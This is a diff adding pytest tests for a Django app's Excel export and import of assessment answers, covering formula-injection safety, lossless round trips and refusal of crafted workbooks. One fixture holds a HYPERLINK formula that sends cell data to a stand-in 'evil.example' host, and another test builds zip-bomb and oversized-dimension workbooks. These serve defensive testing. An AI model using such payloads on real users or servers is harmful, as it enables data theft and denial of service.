@@ -1,13 +1,16 @@
 """Excel round trip: export, fill, import; all rows or none."""
 
 import io
+import re
+import time
+import zipfile
 
 import pytest
 from django.urls import reverse
 from openpyxl import load_workbook
 
 from zona.assessments.excel import COL_ANSWER, COL_CODE, COL_NOTE, COL_REVISION, FIRST_ROW
-from zona.assessments.models import Answer, AnswerChange
+from zona.assessments.models import Answer, AnswerChange, AnswerSource
 from zona.assessments.selectors import load_sheet_state
 from zona.assessments.services import (
     answer_save,
@@ -234,3 +237,158 @@ def test_reviewer_layers_have_their_column_groups(client_for, world, filled):
     row = index["A.I.1.i.a"]
     assert ws.cell(row=row, column=COL_REVISION + 1).value == "Tidak"
     assert ws.cell(row=row, column=COL_REVISION + 3).value == "SK belum ditandatangani"
+
+
+# --- safety and losslessness (issue 8, §4) ---------------------------------------------------
+
+
+def _sheet_xml(data):
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        return archive.read("xl/worksheets/sheet1.xml").decode()
+
+
+TRICKY_NOTES = {
+    "A.I.1.i.a": '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
+    "A.I.1.i.b": "+62 812 3456",
+    "A.I.1.ii.a": "-5% dari target; @SUM(A1:A2)",
+    "B.I.b": "@SUM(1,2)",
+}
+
+
+def test_formula_like_text_is_exported_as_text(client_for, world, filled):
+    op = world["operator"]
+    for code, note in TRICKY_NOTES.items():
+        revision = Answer.objects.filter(item_code=code).values_list("revision", flat=True)
+        answer_save(
+            actor=op,
+            assessment=filled,
+            item_code=code,
+            revision=revision[0] if revision else 0,
+            note=note,
+        )
+    data = export(client_for(op), filled)
+    assert "<f>" not in _sheet_xml(data)  # no cell is a formula
+    ws, index = rows(data)
+    for code, note in TRICKY_NOTES.items():
+        cell = ws.cell(row=index[code], column=COL_NOTE)
+        assert cell.value == note and cell.data_type == "s" and cell.quotePrefix
+
+
+def test_untouched_export_with_equals_notes_and_line_breaks_changes_nothing(
+    client_for, world, filled
+):
+    op = world["operator"]
+    notes = {
+        "A.I.1.i.b": "=target 100% tercapai",
+        "A.I.1.ii.a": "baris satu\r\nbaris dua",
+        "B.I.b": "dari Word\x0bbaris baru\x01",
+    }
+    for code, note in notes.items():
+        answer_save(actor=op, assessment=filled, item_code=code, revision=0, note=note)
+    saved = {code: Answer.objects.get(item_code=code).note for code in notes}
+    assert "\x0b" in saved["B.I.b"]
+    data = export(client_for(op), filled)  # Word's \x0b used to give a server error here
+    ws, index = rows(data)
+    assert ws.cell(row=index["B.I.b"], column=COL_NOTE).value == "dari Word\nbaris baru"
+    before = AnswerChange.objects.count()
+    assert answers_import(actor=op, assessment=filled, data=data).changed == []
+    assert AnswerChange.objects.count() == before
+    for code, note in saved.items():
+        assert Answer.objects.get(item_code=code).note == note
+    # Changing the answer of such a row keeps its note as it was.
+    ws.cell(row=index["B.I.b"], column=COL_ANSWER, value="A")
+    assert answers_import(actor=op, assessment=filled, data=save_wb(ws)).changed == ["B.I.b"]
+    assert Answer.objects.get(item_code="B.I.b").note == saved["B.I.b"]
+
+
+def test_rows_changed_in_zona_after_the_export_but_untouched_in_the_file_are_left_alone(
+    client_for, world, filled
+):
+    member = world["wg_member"]
+    ws, index = rows(export(client_for(member), filled))
+    # After the export: the operator changes an item outside the member's areas, and a
+    # survey figure arrives for B.I.a.
+    answer_save(
+        actor=world["operator"], assessment=filled, item_code="B.I.b", revision=0, value="C"
+    )
+    b_i_a = Answer.objects.get(item_code="B.I.a")
+    b_i_a.value, b_i_a.source, b_i_a.revision = "3.39", AnswerSource.SURVEY, b_i_a.revision + 1
+    b_i_a.save()
+    ws.cell(row=index["A.I.1.i.b"], column=COL_ANSWER, value="A")
+    result = answers_import(actor=member, assessment=filled, data=save_wb(ws))
+    assert result.changed == ["A.I.1.i.b"]
+    assert Answer.objects.get(item_code="B.I.b").value == "C"
+    assert Answer.objects.get(item_code="B.I.a").value == "3.39"
+    assert Answer.objects.get(item_code="A.I.1.i.b").value == "A"
+
+
+def test_pct_rows_show_labels_and_reviewer_counts_never_raw_keys(client_for, world, filled):
+    assessment_submit(actor=world["unit_head"], assessment=filled)
+    answer_save(
+        actor=world["tpi_reviewer"],
+        assessment=filled,
+        item_code="A.II.1.i.a",
+        revision=0,
+        value={"change_agents": 10, "changes_made": 5},
+        tier=world.tier_tpi,
+    )
+    ws, index = rows(export(client_for(world["tpi_reviewer"]), filled))
+    texts = [str(c.value) for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not any("change_agents=" in t or "changes_made=" in t for t in texts)
+    count_row = index["A.II.1.i.a#changes_made"]
+    assert ws.cell(row=count_row, column=2).value == "Perubahan yang dibuat"
+    assert ws.cell(row=count_row, column=COL_REVISION + 1).value == 5
+
+
+def _with_sheet_xml(data, change):
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
+        for entry in src.infolist():
+            body = src.read(entry.filename)
+            if entry.filename == "xl/worksheets/sheet1.xml":
+                body = change(body.decode()).encode()
+            dst.writestr(entry, body, compress_type=zipfile.ZIP_DEFLATED)
+    return out.getvalue()
+
+
+@pytest.mark.parametrize("attack", ["dimension", "far_row", "unzips_huge"])
+def test_a_crafted_workbook_is_refused_fast(client_for, world, filled, attack):
+    data = export(client_for(world["operator"]), filled)
+    if attack == "dimension":
+        crafted = _with_sheet_xml(
+            data,
+            lambda xml: re.sub(r'<dimension ref="[^"]+"', '<dimension ref="A1:XFD1048576"', xml),
+        )
+    elif attack == "far_row":
+        crafted = _with_sheet_xml(
+            data,
+            lambda xml: re.sub(r"<dimension [^>]+/>", "", xml).replace(
+                "</sheetData>",
+                '<row r="1048000"><c r="A1048000" t="inlineStr"><is><t>A.I.1.i.a</t></is></c>'
+                "</row></sheetData>",
+            ),
+        )
+    else:
+        crafted = _with_sheet_xml(
+            data, lambda xml: xml.replace("</worksheet>", " " * (60 * 1024 * 1024) + "</worksheet>")
+        )
+    assert len(crafted) < 200 * 1024
+    started = time.monotonic()
+    with pytest.raises(ValidationFailed) as exc:
+        answers_import(actor=world["operator"], assessment=filled, data=crafted)
+    assert time.monotonic() - started < 3
+    assert exc.value.problems[0].code == "too_large"
+    assert AnswerChange.objects.filter(via="import").count() == 0
+
+
+def test_limits_are_settings(client_for, world, filled, settings):
+    data = export(client_for(world["operator"]), filled)
+    settings.ZONA_IMPORT_MAX_ROWS = 20
+    with pytest.raises(ValidationFailed) as exc:
+        answers_import(actor=world["operator"], assessment=filled, data=data)
+    assert exc.value.problems[0].code == "too_large"
+    settings.ZONA_IMPORT_MAX_ROWS = 20_000
+    settings.ZONA_IMPORT_MAX_BYTES = 1000
+    with pytest.raises(ValidationFailed) as exc:
+        answers_import(actor=world["operator"], assessment=filled, data=data)
+    assert exc.value.problems[0].code == "too_large"
